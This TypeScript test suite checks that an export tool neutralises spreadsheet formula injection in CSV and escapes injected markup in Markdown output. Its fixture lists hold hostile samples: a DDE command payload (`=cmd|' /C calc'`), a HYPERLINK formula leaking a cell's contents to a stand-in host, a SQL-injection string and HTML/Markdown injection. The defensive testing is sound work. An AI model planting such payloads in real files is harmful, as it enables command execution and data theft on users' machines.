import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import * as fc from 'fast-check';
import Papa from 'papaparse';
import { writeExport } from '../../src/formats/writeExport.ts';
import { callFixture } from '../support/callFixture.ts';
import { type DuckDb, openDuckDb, quoted } from '../support/duckDb.ts';
import { streamedCalls } from '../support/streamedCalls.ts';
import { temporaryFolder } from '../support/temporaryFolder.ts';

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=1+1\nsecond line',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u0000=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '=HYPERLINK("http://x.invalid?"&A1,"look")',
];
const INERT = [
  'plain',
  'say "hi", twice',
  'two\r\nlines',
  '\u202Egnp.exe',
  'x'.repeat(10_000),
  `a${'"'.repeat(5000)}b`,
  "' OR 1=1 --",
  '名前, 価格',
  '1=1',
];

async function cellsOf(values: readonly string[]): Promise<(string | undefined)[]> {
  const out = path.join(temporaryFolder(), 'out.csv');
  const calls = values.map((value, at) => callFixture({ id: `c${at}`, tags: { panel: value } }));
  await writeExport({ format: 'csv', out }, streamedCalls(calls));
  const { data, errors } = Papa.parse<Record<string, string>>(readFileSync(out, 'utf8'), {
    header: true,
    skipEmptyLines: true,
    newline: '\r\n',
  });
  assert.deepEqual(errors, []);
  assert.equal(data.length, values.length);
  return data.map((row) => row['tag_panel']);
}

describe('hostile cells', () => {
  it('that a spreadsheet would run get an apostrophe before them', async () => {
    assert.deepEqual(
      await cellsOf(FORMULAS),
      FORMULAS.map((text) => `'${text}`),
    );
  });

  it('that are only odd come back as they were', async () => {
    assert.deepEqual(await cellsOf(INERT), INERT);
  });

  it('never begin a cell with what begins a formula, and never end a row', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.string({
            unit: fc.constantFrom(...'= + - @ \t \r \n " , \' ; | a 1 \u0000 ＝'.split(' '), ' '),
          }),
          { minLength: 1 },
        ),
        async (values) => {
          for (const [at, cell] of (await cellsOf(values)).entries()) {
            assert.doesNotMatch(cell ?? '', /^[=+\-@\t\r\n＝]/);
            assert.ok(
              cell === values[at] || cell === `'${values[at]}`,
              `${JSON.stringify(values[at])} became ${cell}`,
            );
          }
        },
      ),
      { numRuns: 50 },
    );
  });

  it('stay in their cell of a statement, as text', async () => {
    const out = path.join(temporaryFolder(), 'out.md');
    const value = '| **x** |\n# [click](http://x.invalid) <img src=x>';
    const calls = [callFixture({ tags: { project: value } })];
    await writeExport({ format: 'showback', out }, streamedCalls(calls));
    const text = readFileSync(out, 'utf8');
    const row = text.split('\n').find((line) => line.includes('click'));
    assert.ok(row?.startsWith(String.raw`| \| \*\*x\*\* \| \# \[click\]\(http\:`), row);
    assert.doesNotMatch(text, /^# \[|(?<!\\)<img/m);
  });

  describe('in DuckDB', () => {
    let db: DuckDb;
    before(async () => {
      db = await openDuckDb();
    });
    after(() => db.close());

    it('come back from Parquet as they were', async () => {
      const out = path.join(temporaryFolder(), 'out');
      const values = [...FORMULAS, ...INERT];
      const calls = values.map((value, at) => callFixture({ id: String(at), tags: { panel: value } }));
      await writeExport({ format: 'parquet', out }, streamedCalls(calls));
      const rows = await db.rows(
        `SELECT tag_panel FROM read_parquet(${quoted(`${out}/**/*.parquet`)}) ORDER BY id::INTEGER`,
      );
      assert.deepEqual(
        rows.map((row) => row['tag_panel']),
        values,
      );
    });
  });
});
